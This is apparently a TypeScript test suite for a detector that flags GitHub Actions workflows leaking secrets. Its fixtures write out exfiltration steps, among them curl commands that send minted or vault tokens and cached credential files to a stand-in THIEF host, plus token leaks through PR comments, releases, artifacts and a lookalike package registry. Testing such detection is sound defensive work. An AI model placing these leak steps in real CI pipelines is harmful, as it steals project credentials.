import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isMalicious, jobThatRuns, THIEF } from '../../../test/stolen-script.ts'

const step = (uses: string, given: string, id = 'x', word = 'with') =>
  `      - uses: ${uses}\n        id: ${id}\n        ${word}:\n${given.replaceAll(/^/gm, '          ')}\n`
const run = (script: string) => `      - run: |\n${script.replaceAll(/^/gm, '          ')}\n`
const judged = (after: string, before = 'true') => isMalicious(jobThatRuns(before, after))

test('what an action is told to post from a file leaves', async () => {
  const encoded = 'printf %s "$NPM_TOKEN" | base64 > out.md'
  assert.ok(await judged(step('thollander/actions-comment-pull-request@v3', 'file-path: out.md'), encoded))
  assert.ok(await judged(step('softprops/action-gh-release@v2', 'body_path: out.md'), encoded))
  assert.equal(await judged(step('softprops/action-gh-release@v2', 'body_path: CHANGELOG.md'), encoded), false)
})

test('variables that an action is told by name go where it sends', async () => {
  const given = (url: string) => `url: ${url}\nenv_vars: PYPI_TOKEN,NPM_TOKEN`
  assert.ok(await judged(step('codecov/codecov-action@v4', given(THIEF))))
  assert.equal(await judged(step('codecov/codecov-action@v4', `url: ${THIEF}\nenv_vars: OS,PYTHON`)), false)
})

test('what an action mints or fetches from a vault is a secret', async () => {
  const minted: readonly (readonly [string, string, string])[] = [
    ['google-github-actions/auth@v2', 'token_format: access_token', 'access_token'],
    ['actions/create-github-app-token@v1', 'app-id: 1', 'token'],
    ['hashicorp/vault-action@v3', 'secrets: |\n  secret/data/ci npm | VAULT_TOKEN ;', 'VAULT_TOKEN'],
  ]
  for (const [uses, given, output] of minted) {
    const value = `\${{ steps.x.outputs.${output} }}`
    assert.ok(await judged(step(uses, given) + run(`curl -d "${value}" ${THIEF}`)), uses)
    assert.equal(await judged(step(uses, given) + run(`echo "${value}" | docker login --password-stdin`)), false, uses)
  }
  assert.ok(await judged(step('1password/load-secrets-action@v2', 'NPM: op://ci/npm/token', 'x', 'env') + run(`curl -d "$NPM" ${THIEF}`)))
})

test('what publishes at its own registry is shown to no other', async () => {
  const upload = (url: string) =>
    step(
      'pypa/gh-action-pypi-publish@release/v1',
      `password: \${{ secrets.PYPI_API_TOKEN }}${url === '' ? '' : `\nrepository-url: ${url}`}`,
    )
  assert.ok(await judged(upload('') + upload('https://up.collect.example/legacy/')))
  assert.equal(await judged(upload('')), false)
  assert.equal(await judged(upload('https://packages.linden.example/legacy/')), false)
  assert.equal(await judged(upload('') + upload('https://test.pypi.org/legacy/')), false)
})

test('what one job keeps in a cache is there in the next', async () => {
  const other = (key: string) =>
    `${step('actions/cache/save@v4', `path: ~/.warm\nkey: k-1`)}  b:\n    needs: a\n    runs-on: ubuntu-latest\n    steps:\n${step('actions/cache/restore@v4', `path: ~/.warm\nkey: ${key}`)}${run(`curl -T ~/.warm/i.db ${THIEF}`)}`
  assert.ok(await judged(other('k-1'), 'mkdir ~/.warm; echo "$NPM_TOKEN" > ~/.warm/i.db'))
  assert.equal(await judged(other('k-2'), 'mkdir ~/.warm; echo "$NPM_TOKEN" > ~/.warm/i.db'), false)
})

test('what publishes is bundled for nobody and laid out for nobody', async () => {
  const both = 'echo "$NPM_TOKEN $PYPI_TOKEN" > creds.txt'
  const one = 'echo "$PYPI_TOKEN" > site/t.txt'
  assert.ok(await judged(step('actions/upload-artifact@v4', 'path: creds.txt'), both))
  assert.ok(await judged(step('actions/upload-pages-artifact@v3', 'path: site'), one))
  assert.ok(await judged(step('softprops/action-gh-release@v2', 'files: site/t.txt'), one))
  assert.equal(await judged(step('actions/upload-artifact@v4', 'path: dist'), both), false)
  assert.equal(await judged(step('actions/upload-artifact@v4', 'path: site/t.txt'), one), false)
})
